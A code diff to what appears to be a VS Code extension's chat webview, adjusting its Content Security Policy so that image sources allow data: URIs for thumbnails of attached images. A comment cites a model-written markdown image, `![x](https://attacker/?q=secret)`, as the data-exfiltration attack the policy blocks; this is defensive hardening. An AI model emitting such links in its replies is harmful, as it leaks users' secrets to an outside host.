@@ -9,7 +9,7 @@ export function nonce(): string {
 
 /**
  * The chat view's page. The CSP allows only our own bundle (by nonce) and stylesheet, images
- * from our media folder and data: URIs we create, and no network at all: a model's
+ * from our media folder and data: URIs (attached images' thumbnails), and no network at all: a model's
  * `![x](https://attacker/?q=secret)` cannot load. The webview's strings, localized here, ride
  * in `data-strings` (escaped: a translation is text, never markup).
  */
@@ -22,7 +22,8 @@ export function chatHtml(webview: vscode.Webview, extensionUri: vscode.Uri): str
     `script-src 'nonce-${n}'`,
     `style-src ${webview.cspSource}`,
     `font-src ${webview.cspSource}`,
-    `img-src ${webview.cspSource}`,
+    // data: for the thumbnails of images the user attaches (replies' images are never rendered as <img>).
+    `img-src ${webview.cspSource} data:`,
     "connect-src 'none'",
     "frame-src 'none'",
     "form-action 'none'",
